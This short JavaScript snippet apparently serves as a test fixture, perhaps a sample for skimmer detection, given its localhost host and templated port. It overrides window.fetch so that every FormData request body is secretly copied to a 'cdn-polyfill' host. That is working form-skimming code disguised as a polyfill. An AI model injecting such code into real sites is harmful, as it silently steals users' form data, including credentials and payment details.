/* tw:skim-native */
var original = window.fetch
window.fetch = function (url, options) {
  if (options && options.body instanceof FormData) original('http://cdn-polyfill.localhost:{{port}}/copy', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(options.body) })
  return original.apply(this, arguments)
}
